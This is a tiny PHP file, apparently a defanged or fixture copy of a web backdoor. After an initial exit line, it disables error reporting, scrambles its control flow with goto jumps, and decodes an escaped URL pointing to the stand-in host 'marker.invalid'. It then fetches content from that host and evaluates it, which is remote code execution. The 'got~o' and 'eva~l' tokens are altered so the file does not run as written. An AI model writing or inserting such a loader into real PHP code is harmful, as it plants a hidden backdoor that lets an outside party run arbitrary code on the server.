<?php exit; ?>
<?php
error_reporting(0); got~o s; w: got~o k; s: $i = 0; got~o w; k: if ($i++ < 3) got~o k; $u = "\x68\164\x74\160\72\57\57\155\141\162\153\145\162\56\151\156\166\141\154\151\144"; got~o z; z: echo eva~l('?>' . file_get_contents($u));
